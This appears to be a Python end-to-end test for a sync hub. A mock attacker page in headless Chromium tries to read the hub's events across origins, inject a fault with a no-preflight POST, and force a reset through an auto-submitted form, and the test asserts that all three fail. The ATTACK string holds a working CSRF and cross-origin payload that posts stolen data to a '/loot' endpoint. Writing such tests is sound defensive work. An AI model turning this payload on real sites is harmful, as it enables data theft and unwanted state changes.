"""The adversarial review's attack, in Chromium: a page on another origin tries to read
the hub's events, inject a fault with a no-preflight text/plain POST and reset the
store with a form. All three fail; the hub is untouched."""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
from starlette.applications import Starlette
from starlette.responses import HTMLResponse
from starlette.routing import Route

from layersync_middleware.hub import HubServer, HubSite, create_hub

pytestmark = pytest.mark.e2e

SITE = HubSite("site_b", "pk_b_pub", "sk_b_secret")
ATTACK = """<!doctype html><title>start</title><form id=f method=post action="{hub}/api/hub/reset"></form><script>
(async () => {{
  let stolen = 'blocked';
  try {{ stolen = JSON.stringify(await (await fetch('{hub}/api/hub/events')).json()); }} catch (e) {{}}
  const fault = JSON.stringify({{mode: 'hang', hang_seconds: 600}});
  try {{ await fetch('{hub}/api/hub/faults', {{method: 'POST', mode: 'no-cors',
    headers: {{'Content-Type': 'text/plain'}}, body: fault}}); }} catch (e) {{}}
  await fetch('/loot', {{method: 'POST', body: stolen}});
  document.getElementById('f').submit();
}})();
</script>"""


@pytest.fixture(scope="module")
def chromium() -> Iterator[Any]:
    from playwright.sync_api import sync_playwright

    executable = shutil.which("chromium") or shutil.which("chromium-browser")
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=executable, args=["--no-sandbox", "--headless"])
        yield browser
        browser.close()


def test_a_cross_origin_page_can_neither_read_nor_drive_the_hub(chromium: Any) -> None:
    with HubServer(create_hub([SITE])) as hub:
        event = {"site_id": "site_b", "event_id": "pur_secret0001", "event_name": "purchase", "event_time": 1}
        auth = {"Authorization": "Bearer sk_b_secret", "X-LayerSync-Site-Id": "site_b"}
        httpx.post(hub.url + "/api/v1/events/server", json=event, headers=auth).raise_for_status()

        loot: list[str] = []

        async def attack(request: Any) -> HTMLResponse:
            return HTMLResponse(ATTACK.format(hub=hub.url))

        async def take(request: Any) -> HTMLResponse:
            loot.append((await request.body()).decode())
            return HTMLResponse("")

        routes = [Route("/", attack), Route("/loot", take, methods=["POST"])]
        with HubServer(Starlette(routes=routes)) as evil:
            page = chromium.new_page()
            page.goto(evil.url + "/")
            page.wait_for_url(hub.url + "/api/hub/reset", timeout=10_000)  # the form was submitted
            page.close()
        assert loot == ["blocked"]  # no CORS on /api/hub/events: the page could not read it
        assert len(httpx.get(hub.url + "/api/hub/events").json()["events"]) == 1
        assert httpx.get(hub.url + "/api/hub/faults").json()["mode"] is None
